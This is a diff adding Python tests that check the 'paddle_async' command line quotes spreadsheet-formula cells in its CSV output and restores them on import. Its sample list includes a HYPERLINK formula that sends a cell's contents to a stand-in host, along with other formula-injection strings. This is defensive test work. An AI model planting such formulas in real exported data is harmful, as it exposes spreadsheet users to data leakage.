@@ -1,4 +1,4 @@
-"""Hostile data through the command line: deep JSON, huge rows.
+"""Hostile data through the command line: formulas, deep JSON, huge rows.
 
 Each test runs ``python -m paddle_async.cli`` as a subprocess against a FakePaddle that the test
 seeds directly, or the embedded ``--fake``.
@@ -7,6 +7,7 @@ seeds directly, or the embedded ``--fake``.
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 import json
 import os
@@ -22,6 +23,8 @@ from paddle_async.cli._rows import (
     MAX_ROW_CHARS,
     _csv_rows,
     _jsonl_rows,
+    neutralise_formula,
+    restore_formula,
 )
 from paddle_async.testing import FakePaddle
 
@@ -72,11 +75,120 @@ async def on_fake(fake: FakePaddle, *args: str, pythonpath: str = "") -> Run:
     )
 
 
+def csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
 def nested(depth: int) -> dict[str, Any]:
     value: dict[str, Any] = {}
     for _ in range(depth - 1):
         value = {"a": value}
     return value
+
+
+# CSV formula injection
+
+FORMULAS = [
+    '=HYPERLINK("http://example.com/x?"&A1,"Open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tTabbed",
+    "\rReturned",
+    "'=Already quoted",
+    "''Two quotes",
+]
+HARMLESS = ["'s-Hertogenbosch", "Ada Lovelace", "'", "1-2", "x=y"]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_formula_cells_get_a_leading_quote_and_lose_it_again(cell: str) -> None:
+    """A formula's first character gets a ' in front; restoring gives the cell back."""
+    assert ("'" + cell, cell) == (neutralise_formula(cell), restore_formula("'" + cell))
+
+
+@pytest.mark.parametrize("cell", HARMLESS)
+def test_other_cells_are_left_alone(cell: str) -> None:
+    """Cells that no spreadsheet runs, a leading apostrophe in a name included, stay as they are."""
+    assert (cell, cell) == (neutralise_formula(cell), restore_formula(cell))
+
+
+async def seed_formulas(fake: FakePaddle) -> dict[str, str]:
+    """Store customers whose names and e-mails look like formulas; return e-mail -> name."""
+    people = {f"formula{n}@example.com": name for n, name in enumerate(FORMULAS + HARMLESS)}
+    people["=cmd@example.com"] = "E-mail starts with ="
+    for email, name in people.items():
+        fake.add_customer(email=email, name=name)
+    return people
+
+
+async def test_export_neutralises_formulas_and_import_restores_them(
+    fake: FakePaddle, tmp_path: Path
+) -> None:
+    """export CSV quotes formula cells; importing the file back changes nothing."""
+    people = await seed_formulas(fake)
+    path = tmp_path / "all.csv"
+    exported = await on_fake(fake, "customers", "export", str(path))
+    assert 0 == exported.returncode, exported.stderr
+    rows = read_csv(path)
+    shown = {row["email"]: row["name"] for row in rows}
+    assert {neutralise_formula(e): neutralise_formula(n) for e, n in people.items()} == shown
+    assert "'=HYPERLINK(" in path.read_text(encoding="utf-8")
+    imported = await on_fake(fake, "customers", "import", str(path))
+    assert (0, "") == (imported.returncode, imported.stderr)
+    values = summary(imported.stdout)
+    assert (str(len(people)), "0", "0") == (
+        values["unchanged"],
+        values["created"],
+        values["updated"],
+    )
+    assert people == {c["email"]: c["name"] for c in fake.customers()}
+
+
+async def test_list_csv_neutralises_and_csv_raw_keeps_the_data(
+    fake: FakePaddle, tmp_path: Path
+) -> None:
+    """list --format csv quotes formula cells; --csv-raw writes them exactly and imports back."""
+    people = await seed_formulas(fake)
+    listed = await on_fake(fake, "customers", "list", "--format", "csv")
+    assert {neutralise_formula(e): neutralise_formula(n) for e, n in people.items()} == {
+        row["email"]: row["name"] for row in csv_rows(listed.stdout)
+    }
+    raw = await on_fake(fake, "customers", "list", "--format", "csv", "--csv-raw")
+    assert people == {row["email"]: row["name"] for row in csv_rows(raw.stdout)}
+    path = tmp_path / "raw.csv"
+    path.write_text(raw.stdout, encoding="utf-8", newline="")
+    imported = await on_fake(fake, "customers", "import", "--csv-raw", str(path))
+    assert (0, str(len(people))) == (imported.returncode, summary(imported.stdout)["unchanged"])
+
+
+async def test_get_csv_neutralises(fake: FakePaddle) -> None:
+    """Single-customer CSV output follows the same rule."""
+    stored = fake.add_customer(email="one@example.com", name="=1+1")
+    got = await on_fake(fake, "customers", "get", stored["id"], "--format", "csv")
+    assert "'=1+1" == csv_rows(got.stdout)[0]["name"]
+
+
+async def test_failed_rows_file_is_neutralised_and_reimports(
+    fake: FakePaddle, tmp_path: Path
+) -> None:
+    """A failed row keeps its values: written safe to open, read back to the same values."""
+    path = tmp_path / "in.csv"
+    write_csv(path, [["email", "name"], ["not-an-email", "=2*3"]])
+    result = await on_fake(fake, "customers", "import", str(path))
+    assert 1 == result.returncode
+    failed_path = tmp_path / "in.failed.csv"
+    failed = read_csv(failed_path)
+    assert [("not-an-email", "'=2*3")] == [(row["email"], row["name"]) for row in failed]
+    failed_path.write_text(
+        failed_path.read_text(encoding="utf-8").replace("not-an-email", "fixed@example.com"),
+        encoding="utf-8",
+    )
+    again = await on_fake(fake, "customers", "import", str(failed_path))
+    assert (0, "=2*3") == (
+        again.returncode,
+        (fake.find_by_email("fixed@example.com") or {})["name"],
+    )
 
 
 # Deep JSON
